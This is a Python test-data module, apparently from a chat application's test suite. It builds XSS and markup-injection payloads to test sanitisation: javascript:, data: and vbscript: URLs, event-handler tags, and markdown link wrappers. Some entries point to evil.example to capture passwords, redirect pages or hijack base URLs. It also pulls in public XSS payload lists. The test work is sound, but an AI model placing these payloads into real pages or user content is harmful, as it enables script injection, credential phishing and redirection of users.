"""Markup that means to run: some of our own, and where the data sets are, those of public collections."""

import json

from tests.chat.data_sets import FOLDER

#: Addresses that run, load or lead to what is no web page.
ADDRESSES = [
    "javascript:hacked()",
    "JaVaScRiPt:hacked()//https://www.uni.example",
    " javascript:hacked()",
    "java\tscript:hacked()",
    "javascript://www.uni.example/%0ahacked()",
    "data:text/html,<script>parent.hacked()</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hacked()'/>",
    "vbscript:hacked()",
    "https://www.uni.example/\"onmouseover='hacked()'x=\"",
    "https://www.uni.example/'><script>hacked()</script>",
]
#: First those that a browser runs at once wherever they are markup.
OWN = [
    "<img src=x onerror=hacked()>",
    "<script>hacked()</script>",
    "<svg onload=hacked()>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "</textarea><img src=x onerror=hacked()>",
    "</title></style></script><img src=x onerror=hacked()>",
    "\"><img src=x onerror=hacked()>'><img src=x onerror=hacked()>",
    '" autofocus onfocus=hacked() x="',
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<details open ontoggle=hacked()>x</details>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<a style='position:fixed;inset:0' href=https://evil.example>x</a>",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    *(f"[a link]({address})" for address in ADDRESSES),
    *(f"![a picture]({address})" for address in ADDRESSES),
    "[a link][1]\n\n[1]: javascript:hacked()",
    "<javascript:hacked()>",
    "{{constructor.constructor('hacked()')()}}",
]


def payloads() -> list[str]:
    """Each once; those of the collections run `alert` and the like, ours run `hacked`."""
    found = list(OWN)
    folder = FOLDER / "security"
    if folder.is_dir():
        found += (folder / "xss-payloads.txt").read_text("utf-8").splitlines()
        found += [case["payload"] for case in json.loads((folder / "xss-dompurify.json").read_text("utf-8"))]
    return [text.replace("\x00", "") for text in dict.fromkeys(found) if text.strip("\x00 \n")]


def batches(most: int, *, before: str = "") -> list[str]:
    """All of them, several to a text of at most so many characters; longer ones are left out."""
    made = [before]
    for payload in payloads():
        if len(before) + len(payload) + 2 > most:
            continue
        if len(made[-1]) + len(payload) + 2 > most:
            made.append(before)
        made[-1] += f"{payload}\n\n"
    return [text.strip() for text in made]
